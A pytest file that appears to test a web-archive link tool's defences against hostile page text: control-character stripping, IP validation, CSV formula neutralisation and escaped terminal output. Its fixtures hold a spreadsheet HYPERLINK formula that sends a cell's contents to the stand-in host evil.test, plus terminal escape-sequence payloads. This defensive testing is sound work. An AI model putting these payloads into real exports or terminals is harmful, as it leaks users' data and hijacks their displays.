"""Text from other people's pages cannot act (issue 13, rows 6, 7): control characters are
dropped on every extraction path, `ip_from` is an IP or "", csv cells that a spreadsheet would
run are neutralised (unless `csv_raw=1`), and `query` writes no control character to a
terminal."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import pty
import subprocess
import sys
from pathlib import Path

import httpx
import orjson
import pytest

from linkatlas.api.formats import neutralise
from linkatlas.server import Settings, create_app

from .archives import gzip_bytes, page, status, write_warc

ESC = "\x1b"
HOSTILE_TITLE = "=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")"


def _record(url: str, date: str, block: bytes, ip: str) -> bytes:
    head = (f"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: {url}\r\n"
            f"WARC-Date: {date}\r\nWARC-IP-Address: {ip}\r\n"
            f"WARC-Record-ID: <urn:uuid:{abs(hash((url, date))):032x}>\r\n"
            f"Content-Type: application/http; msgtype=response\r\n"
            f"Content-Length: {len(block)}\r\n\r\n").encode()
    return gzip_bytes(head + block + b"\r\n\r\n")


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from linkatlas.extract.ingest import ingest
    from linkatlas.index import build

    root = tmp_path_factory.mktemp("hostile")
    folder = root / "data"
    html = (f"<html><head><title>{HOSTILE_TITLE}</title></head><body>"
            f"<p>before&#27;[2J</p><a href='http://victim.test/a'>@SUM(1+1)&#7;&#27;]0;pwn</a>"
            f"<a href='http://victim.test/b'>-2+3</a><a href='http://victim.test/c'>plain</a>"
            "</body></html>")
    responses = [page("http://site.test/p", "2024-01-01T00:00:00Z", html,
                      ip="not an ip")]
    responses += [status(f"http://victim.test/{n}", "2024-01-10T00:00:00Z", 404)
                  for n in "abcd"]
    warc = write_warc(root / "a.warc.gz", responses)
    redirect = (f"HTTP/1.1 301 Moved{ESC}[31m red{ESC}]0;title\x07\x00\r\n"
                "Location: http://victim.test/d\r\nContent-Length: 0\r\n\r\n").encode()
    with warc.open("ab") as stream:
        stream.write(_record("http://other.test/old", "2024-01-02T00:00:00Z", redirect,
                             f"198.51.100.7{ESC}[2J"))
    ingest(folder, [warc])
    build(folder, workers=1)
    return folder


def _get(data: Path, tmp_path: Path, **params: str) -> httpx.Response:
    app = create_app(Settings(data, f"sqlite:///{tmp_path}/ledger.sqlite"))
    token = app.state.api.ledger.create("t", 100_000)

    async def call() -> httpx.Response:
        transport = httpx.ASGITransport(app=app)  # type: ignore[arg-type]
        async with httpx.AsyncClient(transport=transport, base_url="http://t") as client:
            return await client.get("/", params={
                "token": token, "from": "broken_backlinks", "target": "victim.test",
                "mode": "domain", "order_by": "url_to:asc", **params})

    try:
        return asyncio.run(call())
    finally:
        app.state.api.ledger.close()


def test_no_control_character_is_stored_and_ip_from_is_an_ip(data: Path,
                                                             tmp_path: Path) -> None:
    rows = orjson.loads(_get(data, tmp_path).content)["refpages"]
    assert len(rows) == 4
    for row in rows:
        for value in row.values():
            if isinstance(value, str):
                assert value.isprintable(), value
        assert row["ip_from"] in ("", "198.51.100.7")
    by_target = {row["url_to"]: row for row in rows}
    assert by_target["http://victim.test/d"]["title"] == "301 Moved[31m red]0;title"
    assert by_target["http://victim.test/d"]["ip_from"] == ""  # junk after the address
    assert by_target["http://victim.test/a"]["anchor"] == "@SUM(1+1)]0;pwn"
    assert by_target["http://victim.test/a"]["ip_from"] == ""  # "not an ip"


def test_csv_cells_a_spreadsheet_would_run_are_text(data: Path, tmp_path: Path) -> None:
    body = _get(data, tmp_path, output="csv", select="url_to,title,anchor").text
    rows = list(csv.reader(io.StringIO(body)))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + HOSTILE_TITLE in cells and "'@SUM(1+1)]0;pwn" in cells and "'-2+3" in cells
    assert "plain" in cells and "http://victim.test/c" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    raw = _get(data, tmp_path, output="csv", select="url_to,title,anchor", csv_raw="1").text
    assert HOSTILE_TITLE in [cell for row in csv.reader(io.StringIO(raw)) for cell in row]


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_every_formula_start_is_neutralised(cell: str) -> None:
    assert neutralise(cell) == "'" + cell
    assert neutralise("a" + cell) == "a" + cell and neutralise(-1) == -1


def test_query_writes_no_control_character_to_a_terminal(tmp_path: Path) -> None:
    """`query` on a terminal (a pty) over text holding ESC: shown escaped, never raw."""
    from linkatlas.sample.snapshot import write_synthetic

    data = tmp_path / "data"
    write_synthetic(data, 10, 1)
    # a stored control character, as an index built before this release may hold
    import duckdb

    part = next((data / "current").resolve().glob("broken_backlinks/*.parquet"))
    con = duckdb.connect()
    con.execute(f"COPY (SELECT * REPLACE ('x{ESC}]0;pwn\x07' || title AS title) FROM "
                f"read_parquet('{part}')) TO '{part}.new' (FORMAT parquet)")
    os.replace(f"{part}.new", part)
    leader, follower = pty.openpty()
    command = [sys.executable, "-m", "linkatlas.cli", "--data", str(data), "query",
               "--target", "test", "--mode", "subdomains", "--select", "title",
               "--output", "csv"]
    process = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=follower,
                               stderr=subprocess.DEVNULL)
    os.close(follower)
    out = b""
    while True:
        try:
            chunk = os.read(leader, 65536)
        except OSError:
            break
        if not chunk:
            break
        out += chunk
    process.wait(60)
    os.close(leader)
    assert process.returncode == 0
    assert b"x\\x1b]0;pwn\\x07" in out and b"\x1b" not in out and b"\x07" not in out
    piped = subprocess.run(command, capture_output=True, check=True).stdout
    assert b"\x1b" in piped  # not a terminal: the bytes as the API sends them
